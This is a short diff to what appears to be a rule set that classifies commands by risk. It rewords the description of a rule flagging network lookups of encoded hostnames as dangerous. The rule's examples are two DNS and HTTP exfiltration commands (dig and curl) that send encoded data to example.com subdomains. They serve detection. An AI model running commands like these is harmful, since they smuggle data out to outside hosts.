@@ -29,7 +29,7 @@ export const network: readonly Rule[] = [
   },
   {
     id: 'network/read-encoded',
-    doc: 'asks for a name that looks like packed data, which tells it to whoever answers for that name',
+    doc: 'asks for a name that looks like packed data, and so tells it to a stranger',
     when: { effect: ['network.read', 'network.lookup'], scope: ['encoded'] },
     tier: 'dangerous',
     examples: ['dig nbswy3dpeb3w64tmmqqho2djomqgs4zamexhgzlsmu2q.example.com', 'curl https://6865726520697320612066696c65206f662073656372657473.example.com/'],
